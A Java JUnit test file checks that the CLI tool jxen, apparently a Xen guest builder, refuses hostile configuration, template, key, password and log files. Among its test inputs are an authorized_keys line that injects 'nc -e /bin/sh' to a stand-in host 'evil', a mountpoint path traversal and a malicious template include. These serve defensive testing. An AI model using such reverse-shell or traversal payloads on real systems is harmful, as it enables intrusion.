package dev.jxen.cli;

import dev.jxen.error.ExitCodes;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Files jxen reads as configuration, templates, secrets and keys, made hostile one way each: writable
 * by others, another user's, a FIFO or a device, too large, a link to someone else's file, holding a
 * secret others can read. Each is refused with exit status 2 and its reason before anything is made.
 */
class HostileFilesTest {
    private static final int OTHER = 4242;
    @TempDir
    Path tmp;

    /** One hostile file: what the test makes, the extra arguments, and the words of the refusal. */
    @FunctionalInterface
    interface Make {
        List<String> apply(Path tmp, Path config) throws Exception;
    }

    static Arguments row(String name, String expected, Make make) {
        return Arguments.of(name, expected, make);
    }

    private static Path file(Path p, String text, String mode) throws Exception {
        Files.createDirectories(p.getParent());
        Files.writeString(p, text);
        Files.setPosixFilePermissions(p, PosixFilePermissions.fromString(mode));
        return p;
    }

    private static Path owned(Path p, int uid) throws Exception {
        Files.setAttribute(p, "unix:uid", uid, LinkOption.NOFOLLOW_LINKS);
        return p;
    }

    private static Path group(Path p, int gid) throws Exception {
        Files.setAttribute(p, "unix:gid", gid, LinkOption.NOFOLLOW_LINKS);
        return p;
    }

    private static Path fifo(Path p) throws Exception {
        Files.createDirectories(p.getParent());
        assertEquals(0, new ProcessBuilder("mkfifo", p.toString()).inheritIO().start().waitFor());
        return p;
    }

    private static final String KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl admin@dom0";

    static Stream<Arguments> hostileFiles() {
        return Stream.of(
            row("xen-tools.conf writable by every user", "is writable by every user", (t, c) -> {
                Files.setPosixFilePermissions(c.resolve("xen-tools.conf"), PosixFilePermissions.fromString("rw-rw-rw-"));
                return List.of();
            }),
            row("xen-tools.conf writable by a group of users", "is writable by group", (t, c) -> {
                group(c.resolve("xen-tools.conf"), OTHER);
                Files.setPosixFilePermissions(c.resolve("xen-tools.conf"), PosixFilePermissions.fromString("rw-rw-r--"));
                return List.of();
            }),
            row("xen-tools.conf of another user", "belongs to uid " + OTHER, (t, c) -> {
                owned(c.resolve("xen-tools.conf"), OTHER);
                return List.of();
            }),
            row("the configuration directory writable by every user", "is writable by every user", (t, c) -> {
                Files.setPosixFilePermissions(c, PosixFilePermissions.fromString("rwxrwxrwx"));
                return List.of();
            }),
            row("the configuration directory of another user", "belongs to uid " + OTHER, (t, c) -> {
                owned(c, OTHER);
                return List.of();
            }),
            row("xen-tools.conf a link to another user's file", "belongs to uid " + OTHER, (t, c) -> {
                Path theirs = owned(file(t.resolve("theirs.conf"), "dhcp = 1\n", "rw-r--r--"), OTHER);
                Files.delete(c.resolve("xen-tools.conf"));
                Files.createSymbolicLink(c.resolve("xen-tools.conf"), theirs);
                return List.of();
            }),
            row("xen-tools.conf larger than 1 MiB", "larger than 1 MiB", (t, c) -> {
                Files.writeString(c.resolve("xen-tools.conf"), "# padding\n".repeat(120_000), StandardOpenOption.APPEND);
                return List.of();
            }),
            row("a password in xen-tools.conf that every user can read", "holds 'password', a secret, and every user can read it", (t, c) -> {
                Files.writeString(c.resolve("xen-tools.conf"), "password = hunter2hunter2\n", StandardOpenOption.APPEND);
                Files.setPosixFilePermissions(c.resolve("xen-tools.conf"), PosixFilePermissions.fromString("rw-r--r--"));
                return List.of();
            }),
            row("a password in xen-tools.conf its group can read", "holds 'password', a secret, and its group (gid " + OTHER + ") can read it", (t, c) -> {
                Files.writeString(c.resolve("xen-tools.conf"), "password = hunter2hunter2\n", StandardOpenOption.APPEND);
                group(c.resolve("xen-tools.conf"), OTHER);
                Files.setPosixFilePermissions(c.resolve("xen-tools.conf"), PosixFilePermissions.fromString("rw-r-----"));
                return List.of();
            }),
            row("a password in a --config file every user can read", "holds 'password', a secret, and every user can read it", (t, c) ->
                List.of("--config=" + file(t.resolve("extra.conf"), "password = hunter2hunter2\n", "rw-r--r--"))),
            row("a password in a profile every user can read", "holds 'password', a secret", (t, c) -> {
                file(c.resolve("profiles/pw.conf"), "password = hunter2hunter2\n", "rw-r--r--");
                return List.of("--profile=pw");
            }),
            row("a --config file writable by every user", "is writable by every user", (t, c) ->
                List.of("--config=" + file(t.resolve("extra.conf"), "dhcp = 1\n", "rw-rw-rw-"))),
            row("a --config file that is a FIFO", "no such file", (t, c) -> List.of("--config=" + fifo(t.resolve("fifo.conf")))),
            row("a profile writable by every user", "is writable by every user", (t, c) -> {
                file(c.resolve("profiles/open.conf"), "dhcp = 1\n", "rw-rw-rw-");
                return List.of("--profile=open");
            }),
            row("a profile of another user", "belongs to uid " + OTHER, (t, c) -> {
                owned(file(c.resolve("profiles/theirs.conf"), "dhcp = 1\n", "rw-r--r--"), OTHER);
                return List.of("--profile=theirs");
            }),
            row("a partitions file that is a FIFO", "no such layout", (t, c) -> List.of("--partitions=" + fifo(t.resolve("layout")))),
            row("a partitions file larger than 1 MiB", "larger than 1 MiB", (t, c) ->
                List.of("--partitions=" + file(t.resolve("layout"), "# x\n".repeat(300_000), "rw-r--r--"))),
            row("a partitions file with a mountpoint out of the guest", "must not hold '.' or '..' components", (t, c) ->
                List.of("--partitions=" + file(t.resolve("layout"), "[root]\nsize=2G\ntype=ext4\nmountpoint=/\n\n[x]\nsize=1G\ntype=ext4\nmountpoint=/../../etc\n", "rw-r--r--"))),
            row("a partitions file with two roots", "/", (t, c) ->
                List.of("--partitions=" + file(t.resolve("layout"), "[a]\nsize=2G\ntype=ext4\nmountpoint=/\n\n[b]\nsize=1G\ntype=ext4\nmountpoint=/\n", "rw-r--r--"))),
            row("a template writable by every user", "is writable by every user", (t, c) -> {
                Path jxenTemplate = InProcess.home().resolve("templates/xl.cfg.ftl");
                file(c.resolve("templates/xl.cfg.ftl"), Files.readString(jxenTemplate), "rw-rw-rw-");
                return List.of();
            }),
            row("a template of another user", "belongs to uid " + OTHER, (t, c) -> {
                Path jxenTemplate = InProcess.home().resolve("templates/xl.cfg.ftl");
                owned(file(c.resolve("templates/xl.cfg.ftl"), Files.readString(jxenTemplate), "rw-r--r--"), OTHER);
                return List.of();
            }),
            row("a template that includes one writable by every user", "is writable by every user", (t, c) -> {
                file(c.resolve("templates/evil.ftl"), "bootloader = '/tmp/evil'\n", "rw-rw-rw-");
                Path jxenTemplate = InProcess.home().resolve("templates/xl.cfg.ftl");
                file(c.resolve("templates/xl.cfg.ftl"), Files.readString(jxenTemplate) + "<#include \"evil.ftl\">\n", "rw-r--r--");
                return List.of();
            }),
            row("a --template writable by every user", "is writable by every user", (t, c) -> {
                Path jxenTemplate = InProcess.home().resolve("templates/xl.cfg.ftl");
                return List.of("--template=" + file(t.resolve("site.cfg.ftl"), Files.readString(jxenTemplate), "rw-rw-rw-"));
            }),
            row("a --password-from every user can read", "every user can read it", (t, c) ->
                List.of("--password-from=" + file(t.resolve("pw"), "hunter2hunter2\n", "rw-r--r--"))),
            row("a --password-from its group can read", "its group (gid " + OTHER + ") can read it", (t, c) ->
                List.of("--password-from=" + group(file(t.resolve("pw"), "hunter2hunter2\n", "rw-r-----"), OTHER))),
            row("a --password-from of another user", "it belongs to uid " + OTHER + ", who can read it", (t, c) ->
                List.of("--password-from=" + owned(file(t.resolve("pw"), "hunter2hunter2\n", "rw-------"), OTHER))),
            row("a --password-from that is a FIFO", "no such file", (t, c) -> List.of("--password-from=" + fifo(t.resolve("pw")))),
            row("a --password-from larger than a password file", "larger than 4 KiB", (t, c) ->
                List.of("--password-from=" + file(t.resolve("pw"), "x".repeat(5000), "rw-------"))),
            row("an --authorized-keys that is a FIFO", "is not a plain file", (t, c) -> List.of("--authorized-keys=" + fifo(t.resolve("keys")))),
            row("an --authorized-keys larger than 1 MiB", "larger than 1 MiB", (t, c) ->
                List.of("--authorized-keys=" + file(t.resolve("keys"), (KEY + "\n").repeat(12_000), "rw-r--r--"))),
            row("an --authorized-keys key cut short", "is cut short or damaged", (t, c) ->
                List.of("--authorized-keys=" + file(t.resolve("keys"), KEY.substring(0, 60) + " admin@dom0\n", "rw-r--r--"))),
            row("an --authorized-keys key whose data is of another type", "is cut short or damaged", (t, c) ->
                List.of("--authorized-keys=" + file(t.resolve("keys"), KEY.replace("ssh-ed25519 ", "ssh-rsa ") + "\n", "rw-r--r--"))),
            row("an --authorized-keys key that is not base64", "is cut short or damaged", (t, c) ->
                List.of("--authorized-keys=" + file(t.resolve("keys"), "ssh-ed25519 AAAA==AAAA admin\n", "rw-r--r--"))),
            row("an --authorized-keys line with a command injected", "is not an SSH public key", (t, c) ->
                List.of("--authorized-keys=" + file(t.resolve("keys"), "command=\"nc -e /bin/sh evil 4444\" " + KEY + "\n", "rw-r--r--"))),
            row("a --known-hosts in a directory every user can write", "is writable by every user", (t, c) -> {
                Path open = Files.createDirectories(t.resolve("open"));
                Files.setPosixFilePermissions(open, PosixFilePermissions.fromString("rwxrwxrwx"));
                return List.of("--ip=192.0.2.10", "--known-hosts=" + open.resolve("known_hosts"));
            }),
            row("a --known-hosts under another user's directory in a third user's", "belongs to uid " + OTHER, (t, c) -> {
                Path theirs = owned(Files.createDirectories(t.resolve("home/them")), OTHER);
                Path mine = owned(Files.createDirectories(theirs.resolve("sub")), OTHER + 1);
                return List.of("--ip=192.0.2.10", "--known-hosts=" + mine.resolve("known_hosts"));
            }),
            row("a --log in another user's directory", "a directory of uid " + OTHER, (t, c) -> {
                Path theirs = owned(Files.createDirectories(t.resolve("home/them")), OTHER);
                return List.of("--log=" + theirs.resolve("x.log"));
            }),
            row("a --log that is a link", "is a link, not a plain file, or not root's", (t, c) -> {
                Path link = Files.createDirectories(t.resolve("logs")).resolve("x.log");
                Files.createSymbolicLink(link, file(t.resolve("victim"), "root's\n", "rw-------"));
                return List.of("--log=" + link);
            }),
            row("a --log that is a FIFO", "is a link, not a plain file, or not root's", (t, c) -> List.of("--log=" + fifo(t.resolve("logs/x.log")))),
            row("a --log of another user in root's directory", "is a link, not a plain file, or not root's", (t, c) ->
                List.of("--log=" + owned(file(t.resolve("logs/x.log"), "", "rw-r--r--"), OTHER))),
            row("a --password-file in another user's directory", "belongs to uid " + OTHER, (t, c) -> {
                Path theirs = owned(Files.createDirectories(t.resolve("home/them")), OTHER);
                return List.of("--genpass=1", "--password-file=" + theirs.resolve("pw"));
            }),
            row("a --password-file that is a dangling link", "already exists; jxen does not overwrite it", (t, c) -> {
                Path link = Files.createDirectories(t.resolve("pwdir")).resolve("pw");
                Files.createSymbolicLink(link, t.resolve("where-the-link-points"));
                return List.of("--genpass=1", "--password-file=" + link);
            }),
            row("a --password-file in a directory every user can write", "is writable by every user", (t, c) -> {
                Path open = Files.createDirectories(t.resolve("open-pw"));
                Files.setAttribute(open, "unix:mode", 01777);
                return List.of("--genpass=1", "--password-file=" + open.resolve("pw"));
            }),
            row("a role script writable by every user", "is writable by every user", (t, c) ->
                List.of("--role=" + file(t.resolve("roles/open"), "#!/bin/sh\n", "rwxrwxrwx"))),
            row("a role script of another user", "belongs to uid " + OTHER, (t, c) ->
                List.of("--role=" + owned(file(t.resolve("roles/theirs"), "#!/bin/sh\n", "rwxr-xr-x"), OTHER))),
            row("a local hook writable by every user", "is writable by every user", (t, c) -> {
                file(c.resolve("hooks.d/99-open"), "#!/bin/sh\n", "rwxrwxrwx");
                return List.of();
            }),
            row("distributions.conf that is a FIFO", "not a plain file", (t, c) -> {
                Files.deleteIfExists(c.resolve("distributions.conf"));
                fifo(c.resolve("distributions.conf"));
                return List.of();
            })
        );
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("hostileFiles")
    void isRefusedBeforeAnythingIsMade(String name, String expected, Make make) throws Exception {
        Assumptions.assumeTrue("root".equals(System.getProperty("user.name")), "needs root to give files to other users");
        Files.setPosixFilePermissions(tmp, PosixFilePermissions.fromString("rwx------"));
        Path config = InProcess.scratchConfigDir(tmp);
        List<String> args = new ArrayList<>(List.of("--hostname=h1", "--dist=bookworm", "--mirror=http://mirror.example/debian", "--dhcp",
                "--dir=" + tmp.resolve("store"), "--output=" + tmp.resolve("out"), "--log=" + tmp.resolve("log/x.log"),
                "--base-cache-dir=" + tmp.resolve("cache")));
        List<String> more = make.apply(tmp, config);
        if (more.stream().anyMatch(a -> a.startsWith("--ip="))) {
            args.remove("--dhcp");
        }
        args.addAll(more);
        InProcess.Result r = InProcess.create(config, args.toArray(new String[0]));
        assertEquals(ExitCodes.INVALID_INPUT, r.exit(), name + ": exit status; stderr: " + r.err());
        assertTrue(r.err().contains(expected), name + ": stderr should contain '" + expected + "' but is: " + r.err());
        assertFalse(Files.exists(tmp.resolve("store")), name + ": the storage directory was made");
        assertFalse(Files.exists(tmp.resolve("out")), name + ": the .cfg directory was made");
    }
}
